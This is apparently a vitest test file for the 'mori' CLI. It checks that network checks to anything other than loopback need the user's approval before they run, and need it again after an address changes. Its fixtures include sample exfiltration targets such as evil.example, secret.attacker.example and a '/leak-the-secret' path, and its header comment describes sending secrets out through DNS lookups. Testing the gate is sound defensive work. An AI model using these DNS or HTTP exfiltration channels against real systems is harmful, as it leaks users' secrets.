// environment.md is written by whoever works in the project, and a tcp, http or dns check is a way to
// send data off the machine (a lookup of `<secret>.attacker.example` is enough). Network checks to
// anything but literal loopback need the person's approval like commands do. The real `mori` CLI runs
// them: real listeners on 0.0.0.0 (reachable, but not loopback by name) show whether a connection
// came, and a recorder loaded into the CLI process (test/support/fixtures/network-recorder.mjs) logs every
// connection and lookup it attempts while refusing any that would leave the machine.
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { initShellSession, moriIn, runMoriAsync } from '../../../testkit/mori-cli.js';

const RECORDER = fileURLToPath(new URL('../../support/fixtures/network-recorder.mjs', import.meta.url));

let root: string;
let home: string;
const servers: (net.Server | http.Server)[] = [];

beforeAll(() => {
  root = mkdtempSync(path.join(os.tmpdir(), 'mori-checks-net-'));
  home = path.join(root, 'home');
});
afterAll(async () => {
  await Promise.all(servers.map((s) => new Promise<void>((r) => s.close(() => r()))));
  rmSync(root, { recursive: true, force: true });
});

function listen<S extends net.Server | http.Server>(server: S, host: string): Promise<number> {
  servers.push(server);
  return new Promise((r) => server.listen(0, host, () => r((server.address() as net.AddressInfo).port)));
}

/** `mori verify` with the recorder loaded; the CLI runs asynchronously so the listeners here can answer. */
async function verifyRecorded(name: string, log: string): Promise<{ code: number | null; json: Record<string, unknown>; attempts: string[] }> {
  const r = await runMoriAsync(['verify', name, '--json'], {
    home,
    env: { NODE_OPTIONS: `${process.env['NODE_OPTIONS'] ?? ''} --import ${RECORDER}`.trim(), NETWORK_LOG: log },
  });
  const attempts = existsSync(log) ? readFileSync(log, 'utf8').trim().split('\n').filter(Boolean) : [];
  return { code: r.code, json: JSON.parse(r.stdout) as Record<string, unknown>, attempts };
}

type Row = { id: string; status: string; detail: string };
const byId = (json: Record<string, unknown>): Map<string, Row> => new Map((json['results'] as Row[]).map((r) => [r.id, r]));

describe('network checks off this machine', () => {
  it('are not run, not even looked up, until approved; loopback checks run unapproved; after mori trust --yes they run', async () => {
    let offTcpHits = 0;
    const offHttpHits: string[] = [];
    let loopTcpHits = 0;
    const offTcp = await listen(
      net.createServer((s) => {
        offTcpHits++;
        s.destroy();
      }),
      '0.0.0.0',
    );
    const offHttp = await listen(
      http.createServer((req, res) => {
        offHttpHits.push(req.url ?? '');
        res.end('ok');
      }),
      '0.0.0.0',
    );
    const loopTcp = await listen(
      net.createServer((s) => {
        loopTcpHits++;
        s.destroy();
      }),
      '127.0.0.1',
    );

    const dir = initShellSession(root, home, 'net');
    writeFileSync(
      path.join(dir, 'environment.md'),
      [
        '## Checks',
        '- http: http://evil.example:8080/x',
        '- tcp: 10.1.2.3:80',
        '- dns: secret.attacker.example',
        `- tcp: 0.0.0.0:${offTcp}`,
        `- http: http://0.0.0.0:${offHttp}/leak-the-secret`,
        `- tcp: 127.0.0.1:${loopTcp}`,
        '- dns: localhost',
        '',
      ].join('\n'),
    );
    const offIds = ['http:http://evil.example:8080/x', 'tcp:10.1.2.3:80', 'dns:secret.attacker.example', `tcp:0.0.0.0:${offTcp}`, `http:http://0.0.0.0:${offHttp}/leak-the-secret`];

    // Listed as needing trust, by kind and exact target, in the text and in the trust list.
    const listed = moriIn(home, ['checks', 'net', '--json']).json();
    const trust = listed['trust'] as { trusted: boolean; items: { kind: string; value: string; where: string }[] };
    expect(trust.trusted).toBe(false);
    expect(trust.items.map((i) => `${i.kind}:${i.value}`)).toEqual(offIds);
    expect(trust.items[2]?.where).toBe('environment.md:4');
    const text = moriIn(home, ['checks', 'net']).out;
    expect(text).toMatch(/dns\s+secret\.attacker\.example\s+environment\.md:4\s+timeout \S+\s+needs trust/);
    expect(text).toMatch(new RegExp(`tcp\\s+127\\.0\\.0\\.1:${loopTcp}\\s+environment\\.md:7\\s+timeout \\S+\\n`));

    const before = await verifyRecorded('net', path.join(root, 'before.log'));
    const results = byId(before.json);
    for (const id of offIds) {
      expect(results.get(id)?.status, id).toBe('untrusted');
      expect(results.get(id)?.detail, id).toMatch(/^not run: .* is not this machine, .* is not approved \(mori trust\)$/);
    }
    expect(results.get(`tcp:127.0.0.1:${loopTcp}`)?.status).toBe('pass');
    expect(results.get('dns:localhost')?.status).toBe('pass');
    expect(before.json['message']).toBe('checks 2/7 passed (5 not run: needs trust)');
    // Nothing was attempted toward any of them: no lookup, no connection, no request.
    expect(before.attempts.filter((a) => !/^(connect 127\.0\.0\.1:|lookup localhost$)/.test(a))).toEqual([]);
    expect(before.attempts).toContain(`connect 127.0.0.1:${loopTcp}`);
    expect(offTcpHits).toBe(0);
    expect(offHttpHits).toEqual([]);
    expect(loopTcpHits).toBe(1);
    expect(readFileSync(path.join(dir, 'work_log.md'), 'utf8')).toContain('- 5 addresses not run: never approved (mori trust net)');

    const approved = moriIn(home, ['trust', 'net', '--yes']);
    expect(approved.code, approved.err).toBe(0);
    expect(approved.out).toMatch(/Checks of "net" would run or contact:\n\s+http\s+http:\/\/evil\.example:8080\/x\n\s+from environment\.md:2\n\s+tcp\s+10\.1\.2\.3:80\n/);

    const after = await verifyRecorded('net', path.join(root, 'after.log'));
    const ran = byId(after.json);
    expect(ran.get(`tcp:0.0.0.0:${offTcp}`)?.status).toBe('pass');
    expect(ran.get(`http:http://0.0.0.0:${offHttp}/leak-the-secret`)?.status).toBe('pass');
    // The recorder refused these three, so they fail here, but they were attempted.
    for (const id of offIds.slice(0, 3)) expect(ran.get(id)?.status, id).toBe('fail');
    expect(after.attempts).toEqual(expect.arrayContaining(['lookup secret.attacker.example', 'connect 10.1.2.3:80', `connect 0.0.0.0:${offTcp}`]));
    expect(after.attempts.some((a) => /evil\.example/.test(a))).toBe(true);
    expect(offTcpHits).toBe(1);
    expect(offHttpHits).toEqual(['/leak-the-secret']);
  }, 60_000);

  it('a changed address needs approval again', async () => {
    const dir = initShellSession(root, home, 'changed');
    const env = (host: string) => writeFileSync(path.join(dir, 'environment.md'), `## Checks\n- dns: ${host}\n`);
    env('build.example.org');
    expect(moriIn(home, ['trust', 'changed', '--yes']).code).toBe(0);
    env('secret-token.attacker.example');
    const r = await verifyRecorded('changed', path.join(root, 'changed.log'));
    expect(byId(r.json).get('dns:secret-token.attacker.example')?.status).toBe('untrusted');
    expect(r.attempts).toEqual([]);
    expect(readFileSync(path.join(dir, 'work_log.md'), 'utf8')).toContain('- 1 address not run: the list changed since it was approved (mori trust changed)');
  }, 60_000);
});
